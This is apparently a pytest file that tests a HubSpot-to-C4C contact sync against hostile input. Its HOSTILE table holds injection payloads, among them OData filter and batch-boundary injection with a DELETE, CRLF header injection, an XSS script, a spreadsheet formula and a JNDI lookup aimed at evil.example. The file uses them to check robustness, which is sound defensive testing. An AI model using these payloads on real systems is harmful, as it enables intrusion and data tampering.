"""Values that somebody chose to do harm: they arrive as text, reach nobody else's record, and show in no output."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from proof.histories import Works
from proof.simulation import Stage, staged

HOSTILE = {
    "a filter that is always true": "Qz' or '1' eq '1",
    "the end of a filter and another one": "Qz') or startswith(Name,'",
    "a boundary of a batch": "Qz\r\n--batch_1--\r\nDELETE LeadCollection('1') HTTP/1.1\r\n\r\n",
    "a header of its own": "Qz\r\nX-CSRF-Token: fetch",
    "a formula": '=HYPERLINK("http://evil.example";"Qz")',
    "a script": "<script>alert('Qz')</script>",
    "a colour of the terminal": "\x1b[31mQz\x1b[0m\x07",
    "the other direction": "Qz\u202egnp.exe\u202c",
    "half an emoji": "Qz \ud83d",
    "a family": "Qz \U0001f468\u200d\U0001f469\u200d\U0001f467 Zoë",
    "no character at all": "\x00\x01Qz\ufffe",
    "64 kB in one word": "Qz" + "x" * 65_536,
    "64 kB in many words": "Qz " + "word " * 13_000,
    "a percent sign and a slash": "Qz%27%20or%201%20eq%201 /../../",
    "a template": "{{7*7}} {contact.lastname} Qz %s ${jndi:ldap://evil.example}",
}
"""Each stands in every text of a contact and of its company."""


CLEANED = ("no watermark ahead", "every change is read")
"""Here the mirror rightly holds something else than HubSpot: texts are stored without what nobody can see."""


@pytest.fixture
def stage() -> Iterator[Stage]:
    with staged(0) as opened:
        yield opened


def test_hostile_values_are_text_and_nothing_else(stage: Stage) -> None:
    hubspot, c4c = stage.world.hubspot, stage.world.c4c
    stranger = c4c.create("CorporateAccount", {"Name": "Stranger", "RoleCode": "CRM000", "WebSite": "stranger.example"})
    before = c4c.get("CorporateAccount", stranger["ObjectID"])
    contacts = {name: _contact(stage, number, text) for number, (name, text) in enumerate(HOSTILE.items())}
    found = stage.play([Works(300, ("poll", "scores", "sweep", "push"))])
    assert [one for one in found if one.promise not in CLEANED] == []
    leads = {row["HubSpotID_KUT"].split(":")[0] for row in c4c.rows("Lead")}
    assert [name for name, contact in contacts.items() if contact not in leads] == []
    assert len(c4c.rows("Lead")) == len(c4c.rows("Contact")) == len(contacts)
    assert c4c.get("CorporateAccount", stranger["ObjectID"]) == before
    assert len(hubspot.truth()["contacts"]) == len(contacts)


def _contact(stage: Stage, number: int, text: str) -> str:
    hubspot = stage.world.hubspot
    places = {"city": text, "address": text, "zip": text, "phone": text}
    company = hubspot.create("companies", {"name": f"{number} {text}", "domain": f"hostile{number}.example", **places})
    texts = {"firstname": text, "lastname": text, "jobtitle": text, "phone": text, "mobilephone": text}
    consent = {"lead_score": "90", "hs_legal_basis": "Freely given consent from contact"}
    address = {"email": f"{text[:200]}@hostile{number}.example"}
    made = hubspot.create("contacts", {**texts, **consent, **address}).id
    hubspot.associate(made, company.id, ["Primary"])
    return made
